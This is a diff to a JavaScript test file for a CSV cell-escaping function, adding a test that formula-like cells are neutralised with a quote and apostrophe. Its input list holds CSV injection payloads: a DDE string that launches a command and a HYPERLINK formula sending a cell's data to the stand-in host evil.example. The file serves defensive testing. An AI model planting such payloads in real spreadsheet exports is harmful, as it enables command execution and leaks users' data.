@@ -42,7 +42,25 @@ describe('a cell', () => {
         expect(shown).not.toMatch(/^[\t\r\n]/);
         expect([typed, `'${typed}`]).toContain(shown);
       }),
+      { numRuns: 1000 },
     );
+  });
+
+  it('is text for a spreadsheet, in 300 formulas however they begin', () => {
+    const calls = [
+      '1+1',
+      "cmd|' /C calc'!A0",
+      'HYPERLINK("https://evil.example?"&A1)',
+      'SUM(A1:A9)*2',
+      '"x"',
+      'A1',
+    ];
+    const formulas = starts.flatMap((start) =>
+      calls.flatMap((called) => [`${start}${called}`, `${start}${called}\n=2`, `${start}${called}\t-1`]),
+    );
+    expect(new Set(formulas).size).toBeGreaterThanOrEqual(300);
+    for (const formula of formulas) expect(csvCell(formula)).toMatch(/^"'.*"$/s);
+    expect(formulas.map((formula) => content(csvCell(formula)).slice(1))).toEqual(formulas);
   });
 
   it('is left alone when it is no formula', () => {
